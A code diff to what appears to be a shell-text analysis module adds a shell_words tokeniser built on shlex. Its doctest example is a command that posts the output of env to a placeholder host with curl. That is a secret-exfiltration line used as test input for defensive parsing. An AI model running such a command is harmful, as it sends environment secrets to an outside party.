@@ -21,6 +21,7 @@ from __future__ import annotations
 import base64
 import codecs
 import re
+import shlex
 from collections.abc import Callable
 from dataclasses import dataclass, field
 
@@ -208,3 +209,19 @@ def normalise_shell(text: str) -> NormalisedShell:
             seen.add((payload.line, payload.text))
             payloads.append(payload)
     return NormalisedShell(joined, payloads)
+
+
+def shell_words(line: str) -> list[str] | None:
+    """The words and operators of one shell line, quotes removed and ``#`` comments
+    dropped; None when its quotes do not balance.
+
+    >>> shell_words('curl -d "$(env)" https://x.invalid && echo ok # sent')
+    ['curl', '-d', '$(env)', 'https://x.invalid', '&&', 'echo', 'ok']
+    """
+    lexer = shlex.shlex(line, posix=True, punctuation_chars=True)
+    lexer.whitespace_split = True
+    lexer.commenters = "#"
+    try:
+        return list(lexer)
+    except ValueError:
+        return None
